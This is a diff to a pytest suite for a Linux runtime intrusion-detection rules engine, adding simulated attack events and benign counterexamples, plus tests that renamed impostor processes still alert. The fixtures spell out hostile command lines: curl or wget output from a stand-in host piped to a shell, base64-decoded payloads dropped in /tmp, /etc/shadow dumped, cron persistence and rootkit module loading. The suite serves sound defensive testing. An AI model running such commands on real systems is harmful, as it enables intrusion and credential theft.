@@ -14,6 +14,7 @@ import pytest
 from ravn_analyzers.rules.engine import RulesAnalyzer, RulesConfig
 
 from ravn_core.components import Alert, BatchContext
+from ravn_core.events import EVENT_TYPES
 from ravn_core.proctree import ProcessTree
 from ravn_core.testing import make_context
 
@@ -60,6 +61,15 @@ def chain(*links: tuple[str, str]) -> list[dict[str, Any]]:
 def under(parents: list[dict[str, Any]], ev: dict[str, Any]) -> list[dict[str, Any]]:
     ev["proc.ppid"] = parents[-1]["proc.pid"]
     return [*parents, ev]
+
+
+def by(path: str, ev: dict[str, Any], comm: str | None = None, parents: list[dict[str, Any]] | None = None
+       ) -> list[dict[str, Any]]:
+    """``ev`` done by a process that executed ``path`` (so the process tree knows its executable), optionally
+    below ``parents`` (a chain())."""
+    ex = X(path, comm=comm or ev["proc.comm"], ppid=parents[-1]["proc.pid"] if parents else 1)
+    ev = {**ev, "proc.pid": ex["proc.pid"], "proc.tid": ex["proc.pid"], "proc.ppid": ex["proc.ppid"]}
+    return [*(parents or []), ex, ev]
 
 
 def _revshell() -> list[dict[str, Any]]:
@@ -185,7 +195,50 @@ ATTACKS: dict[str, list[dict[str, Any]]] = {
                                      E("mount", comm="exploit", mount__source="none", mount__target="/tmp/m",
                                        mount__fstype="cgroup2", mount__flags=0, mount__ret=0, t=0.5)]),
 }
-ATTACKS["kernel_module_tool"][0]["exec.argv"] = ["insmod", "/tmp/rk.ko"]
+ATTACKS["kernel_module_tool"] = [X("/usr/sbin/modprobe", "rk")]
+
+
+def siblings(*execs: dict[str, Any]) -> list[dict[str, Any]]:
+    """Execs started side by side by one shell (a pipeline): same parent, a few ms apart."""
+    shell = X("/bin/bash")
+    return [shell, *({**e, "proc.ppid": shell["proc.pid"], "evt.ts": e["evt.ts"] + i * 2_000_000}
+                     for i, e in enumerate(execs))]
+
+
+def _decoded_to_tmp() -> list[dict[str, Any]]:
+    pid = next(_pid)
+    return [Open("/tmp/.x.sh", write=True, pid=pid, ppid=77), {**X("/usr/bin/base64", "-d", ppid=77), "proc.pid": pid}]
+
+
+ATTACKS.update({
+    "decoded_payload_piped_to_shell": siblings(X("/usr/bin/base64", "-d"), X("/bin/sh")),
+    "shell_fed_by_decoder": siblings(X("/usr/bin/bash"), X("/usr/bin/xxd", "-r", "-p")),
+    "download_then_shell": siblings(X("/usr/bin/curl", "-fsSL", "http://10.9.9.9/i"), X("/bin/bash")),
+    "shell_fed_by_download": siblings(X("/bin/sh"), X("/usr/bin/wget", "-qO-", "http://10.9.9.9/i")),
+    "decoded_payload_written": _decoded_to_tmp(),
+    "decoder_oneliner_writes_file": [X("/usr/bin/python3", "-c", "import base64;open('/tmp/x','wb').write("
+                                       "base64.b64decode('ZWNobw=='))")],
+    "dropped_script_run": [Open("/tmp/.s.sh", write=True, comm="curl"), X("/bin/sh", "/tmp/.s.sh", t=2)],
+    "daemon_name_run_from_writable_dir": [X("/dev/shm/.x/sshd", "-D")],
+    "deceptive_file_name_exec": [X("/tmp/sshd ")],
+    "argv0_masquerade": [{**X("/tmp/.x/a"), "exec.argv": ["[kworker/0:2]"]}],
+    "kernel_thread_name_spoofed": [C("10.9.9.9", 443, comm="kworker/0:2")],
+    "credential_file_dumped": [Open("/etc/shadow", comm="cat")],
+    "persistence_points_to_temp": [X("/bin/sh", "-c", "echo '* * * * * root /dev/shm/.x' > /etc/cron.d/0h"),
+                                   Open("/etc/cron.d/0h", write=True, comm="sh")],
+    "authorized_keys_written_by_shell": [Open("/root/.ssh/authorized_keys", write=True, flags=0o2101)],
+    "kernel_module_file_loaded": [X("/usr/sbin/insmod", "/tmp/rk.ko")],
+    "world_writable_chmod": [E("chmod", comm="chmod", file__path="/tmp/.x/run", file__mode=0o777, file__ret=0)],
+    "system_file_world_writable": [E("chmod", comm="chmod", file__path="/etc/passwd", file__mode=0o666,
+                                     file__ret=0)],
+    "recursive_permission_change": [X("/usr/bin/chmod", "-R", "777", "/etc")],
+    "mass_permission_change": _burst(20, lambda i: E("chown", comm="chown", file__path=f"/etc/x/f{i}", file__uid=1000,
+                                                     file__gid=1000, file__ret=0)),
+    "immutable_attribute_changed": [X("/usr/bin/chattr", "+i", "/tmp/.x/run")],
+    "system_file_immutable_changed": [X("/usr/bin/chattr", "+i", "/root/.ssh/authorized_keys")],
+})
+# the exec of the sibling pipeline members and of the writers: one parent, the pipeline's shell
+ATTACKS["persistence_points_to_temp"][1]["proc.pid"] = ATTACKS["persistence_points_to_temp"][0]["proc.pid"]
 
 
 @pytest.fixture(scope="module")
@@ -245,22 +298,24 @@ def _benign() -> list[list[dict[str, Any]]]:
         under(dpkg_script, X("/usr/sbin/useradd", "--system", "_htop")),
         under(dpkg_script, Open("/etc/systemd/system/multi-user.target.wants/x.service", comm="sh", write=True)),
         [Open("/usr/lib/python3.11/__pycache__/os.cpython-311.pyc", comm="python3", write=True)],
-        under(sshd, Open("/etc/shadow", comm="sshd")),
-        [Open("/etc/shadow", comm="unix_chkpwd")],
-        [Open("/root/.ssh/id_ed25519", comm="ssh")],
+        by("/usr/sbin/sshd", Open("/etc/shadow", comm="sshd"), parents=sshd),
+        by("/usr/sbin/unix_chkpwd", Open("/etc/shadow", comm="unix_chkpwd")),
+        by("/usr/bin/ssh", Open("/root/.ssh/id_ed25519", comm="ssh")),
         [Open("/etc/passwd", comm="bash")],  # reading passwd is fine
         [*ld, Open("/tmp/build/hello", comm="ld", write=True, ppid=ld[-1]["proc.ppid"])],
         run_built,
         under(sshd, E("cred", comm="sshd", uid=0, cred__call="setuid", cred__args=[1000], cred__ret=0)),
-        [E("cred", comm="sudo", uid=1000, cred__call="setresuid", cred__args=[0, 0, 0], cred__ret=0)],
+        by("/usr/bin/sudo", E("cred", comm="sudo", uid=1000, cred__call="setresuid", cred__args=[0, 0, 0],
+                              cred__ret=0)),
         under(logrotate, E("rename", comm="logrotate", file__path="/var/log/syslog", file__newpath="/var/log/syslog.1",
                            file__ret=0)),
         under(logrotate, E("unlink", comm="logrotate", file__path="/var/log/syslog.7.gz", file__ret=0)),
         under(logrotate, Open("/var/log/syslog", comm="logrotate", write=True, flags=0o1001)),
         [E("unlink", comm="bash", file__path="/var/log/app/old.log.3.gz", file__ret=0)],
         under(pip, Open("/tmp/v/lib/python3.11/site-packages/pkg/__init__.py", comm="python3", write=True)),
-        _burst(40, lambda i: {**under(pip, E("rename", comm="python3", file__path=f"/tmp/v/lib/m{i}.pyc.123",
-                                             file__newpath=f"/tmp/v/lib/__pycache__/m{i}.pyc", file__ret=0))[-1]}),
+        pip + [{**E("rename", comm="python3", file__path=f"/tmp/v/lib/m{i}.pyc.123", pid=pip[-1]["proc.pid"],
+                   ppid=pip[-1]["proc.ppid"], file__newpath=f"/tmp/v/lib/__pycache__/m{i}.pyc", file__ret=0,
+                   t=i * 0.01)} for i in range(40)],
         _burst(10, lambda i: {**under(git, E("rename", comm="git", file__path="/tmp/r/.git/index.lock",
                                              file__newpath="/tmp/r/.git/index", file__ret=0))[-1]}),
         _burst(5, lambda i: C("140.82.121.4", 443, comm="git")),
@@ -271,13 +326,35 @@ def _benign() -> list[list[dict[str, Any]]]:
         [X("/usr/bin/dpkg", "-l"), X("/usr/bin/apt-cache", "policy")],
         [X("/usr/bin/uname", "-r"), X("/usr/bin/id", "-u")],  # two discovery commands is not a burst
         [C("127.0.0.1", 6379, comm="redis-cli"), C("10.0.0.1", 53, comm="systemd-resolve")],
-        [Open("/etc/resolv.conf", comm="NetworkManager", write=True)],
-        [E("mount", comm="systemd", mount__source="cgroup2", mount__target="/sys/fs/cgroup", mount__fstype="cgroup2",
-           mount__flags=0, mount__ret=0)],
-        [E("bpf", comm="systemd", bpf__cmd=5, bpf__cmd_name="BPF_PROG_LOAD")],
-        [E("ptrace", comm="strace", ptrace__request=16, ptrace__request_name="PTRACE_SEIZE", ptrace__target=4242,
-           ptrace__ret=0)],
+        by("/usr/sbin/NetworkManager", Open("/etc/resolv.conf", comm="NetworkManager", write=True)),
+        by("/usr/lib/systemd/systemd", E("mount", comm="systemd", mount__source="cgroup2",
+                                         mount__target="/sys/fs/cgroup", mount__fstype="cgroup2", mount__flags=0,
+                                         mount__ret=0)),
+        by("/usr/lib/systemd/systemd", E("bpf", comm="systemd", bpf__cmd=5, bpf__cmd_name="BPF_PROG_LOAD")),
+        by("/usr/bin/strace", E("ptrace", comm="strace", ptrace__request=16, ptrace__request_name="PTRACE_SEIZE",
+                                ptrace__target=4242, ptrace__ret=0)),
         [X("/bin/bash", "-c", "ls -la"), X("/bin/sh", "-c", "echo hello | tr a-z A-Z")],
+        # pipelines and decoders that are not a payload run
+        siblings(X("/usr/bin/base64", "-d"), X("/usr/bin/gunzip")),  # base64 -d | gunzip > file
+        siblings(X("/usr/bin/curl", "-fsSL", "http://10.0.0.1/key.gpg"), X("/usr/bin/gpg", "--dearmor")),
+        siblings(X("/usr/bin/curl", "-o", "/tmp/x.tgz", "http://10.0.0.1/x"), X("/bin/sh")),  # download to a file
+        siblings(X("/usr/bin/base64", "/etc/hostname"), X("/bin/sh", "/usr/local/bin/build.sh")),
+        [X("/bin/bash", "-c", "echo aGk= | base64 -d")],
+        [X("/bin/bash", "-c", "base64 -d < cert.b64 > cert.pem")],
+        [X("/usr/bin/python3", "-c", "import base64; print(base64.b64decode(b'aGk='))")],
+        # scripts in temp dirs run by their own build, files chmod'ed normally, chattr -l, modprobe by name
+        [E("chmod", comm="chmod", file__path="/tmp/build/run.sh", file__mode=0o755, file__ret=0)],
+        [E("chmod", comm="mktemp", file__path="/tmp/shared", file__mode=0o1777, file__ret=0)],
+        [X("/usr/bin/chattr", "-R", "-V", "/srv")], [X("/usr/bin/lsattr", "/etc/passwd")],
+        [X("/usr/bin/chown", "-R", "www-data:", "/var/www/html")],
+        [X("/usr/sbin/sshd", "-D")], [X("/usr/sbin/cron", "-f")],
+        [Open("/etc/passwd", comm="cat")],  # not a credential file
+        by("/usr/bin/ssh-keygen", Open("/root/.ssh/id_ed25519", comm="ssh-keygen")),
+        by("/usr/bin/tar", Open("/etc/shadow", comm="tar"), parents=chain(("/usr/sbin/cron", "cron"),
+                                                                           ("/bin/sh", "sh"))),  # nightly backup
+        by("/usr/bin/cloud-init", Open("/home/ubuntu/.ssh/authorized_keys", comm="cloud-init", write=True)),
+        by("/usr/bin/python3", E("prctl", comm="python3", prctl__option=15, prctl__name="worker-3", prctl__ret=0))
+        if "prctl" in EVENT_TYPES else [],
     ]
 
 
@@ -344,3 +421,71 @@ def test_dispatch_functions_agree_with_rule_predicates(analyzer: RulesAnalyzer) 
             assert (i in hits) == bool(rule.match(ev)), (rule.name, ev)
             checked += 1
     assert checked > 1000
+
+
+# ------------------------------------------------------------------------------------------ spoofed names
+def _renamed(exe: str, comm: str, ev: dict[str, Any], parent_comm: str | None = None) -> list[dict[str, Any]]:
+    """A process that executed ``exe`` and then renamed itself ``comm`` (prctl PR_SET_NAME or /proc/self/comm):
+    its later events carry the new comm; the process tree keeps the executable."""
+    events = by(exe, ev)
+    events[-2]["proc.comm"] = exe.rsplit("/", 1)[-1][:15]  # the exec's comm comes from the file name
+    events[-1]["proc.comm"] = comm
+    if parent_comm is not None:  # and its parent renamed too
+        parent = X("/tmp/.x/p", comm=parent_comm)
+        events[-2]["proc.ppid"] = events[-1]["proc.ppid"] = parent["proc.pid"]
+        events.insert(0, parent)
+    return events
+
+
+@pytest.mark.parametrize(("rule", "comm", "ev"), [
+    ("sensitive_file_read", "sshd", Open("/etc/shadow")),
+    ("sensitive_file_read", "unix_chkpwd", Open("/etc/shadow")),
+    ("ssh_private_key_read", "ssh", Open("/root/.ssh/id_rsa")),
+    ("bpf_program_load", "systemd", E("bpf", bpf__cmd=5, bpf__cmd_name="BPF_PROG_LOAD")),
+    ("ptrace_code_injection", "gdb", E("ptrace", ptrace__request=5, ptrace__request_name="PTRACE_POKEDATA",
+                                       ptrace__target=4242, ptrace__ret=0)),
+    ("write_below_etc", "systemd-resolve", Open("/etc/hosts", write=True)),
+    ("account_database_modified", "useradd", Open("/etc/passwd", write=True, flags=0o2001)),
+    ("unexpected_setuid_root", "sudo", E("cred", uid=1000, cred__call="setuid", cred__args=[0], cred__ret=0)),
+    ("cgroup_fs_mounted", "runc", E("mount", mount__source="cgroup", mount__target="/tmp/cg", mount__fstype="cgroup",
+                                    mount__flags=0, mount__ret=0)),
+])
+def test_a_renamed_process_still_alerts(analyzer: RulesAnalyzer, rule: str, comm: str, ev: dict[str, Any]) -> None:
+    """Issue 12 point 4: a program that renames itself after a trusted daemon (here ``sshd``, ``systemd``,
+    ``gdb``...) gets no allowlist exception: exceptions key on the executable's path, not on comm."""
+    for exe in ("/tmp/.x/implant", "/usr/bin/python3", "/dev/shm/sshd"):
+        alerts = analyze(analyzer, _renamed(exe, comm, dict(ev)))
+        assert rule in {a.rule for a in alerts}, (exe, comm, [a.rule for a in alerts])
+    # the real program at its installed path is still allowed
+    real = {"sshd": "/usr/sbin/sshd", "unix_chkpwd": "/usr/sbin/unix_chkpwd", "ssh": "/usr/bin/ssh",
+            "systemd": "/usr/lib/systemd/systemd", "gdb": "/usr/bin/gdb", "useradd": "/usr/sbin/useradd",
+            "systemd-resolve": "/usr/lib/systemd/systemd-resolved", "sudo": "/usr/bin/sudo", "runc": "/usr/sbin/runc"}
+    alerts = analyze(analyzer, _renamed(real[comm], comm, dict(ev)))
+    assert rule not in {a.rule for a in alerts}
+
+
+def test_a_renamed_parent_grants_nothing(analyzer: RulesAnalyzer) -> None:
+    """An implant that renames itself ``dpkg`` (or ``make``) does not make its children package-manager or build
+    work: pkg_mgmt_process and compiler_process look at the ancestors' executables."""
+    for parent in ("dpkg", "apt-get", "make", "gcc"):
+        alerts = analyze(analyzer, _renamed("/usr/bin/tee", "tee", Open("/etc/cron.d/x", write=True),
+                                            parent_comm=parent))
+        assert "cron_job_written" in {a.rule for a in alerts}, parent
+    tee_under_dpkg = by("/usr/bin/tee", Open("/etc/cron.d/x", write=True, comm="tee"),
+                        parents=chain(("/usr/bin/apt-get", "apt-get"), ("/usr/bin/dpkg", "dpkg")))
+    assert "cron_job_written" not in {a.rule for a in analyze(analyzer, tee_under_dpkg)}
+
+
+def test_trusted_name_fields() -> None:
+    from ravn_analyzers.rules.lang import _script, _trusted_name
+
+    assert _trusted_name("/usr/sbin/sshd") == "sshd"
+    assert _trusted_name("/usr/sbin/sshd (deleted)") == "sshd"
+    assert _trusted_name("/usr/../tmp/sshd") is None
+    for untrusted in ("/tmp/sshd", "/dev/shm/sshd", "/home/al/bin/sshd", "./sshd", "/proc/self/fd/3", "", None):
+        assert _trusted_name(untrusted) is None
+    assert _script({"exec.argv": ["sh", "/tmp/x.sh"]}) == "/tmp/x.sh"
+    assert _script({"exec.argv": ["bash", "-x", "/tmp/x.sh", "a"]}) == "/tmp/x.sh"
+    for stdin in (["sh"], ["bash", "-s"], ["python3", "-"], ["sh", "-c", "id"], ["bash", "-lc", "id"],
+                  ["python3", "-m", "http.server"], ["perl", "-e", "print 1"]):
+        assert _script({"exec.argv": stdin}) is None, stdin
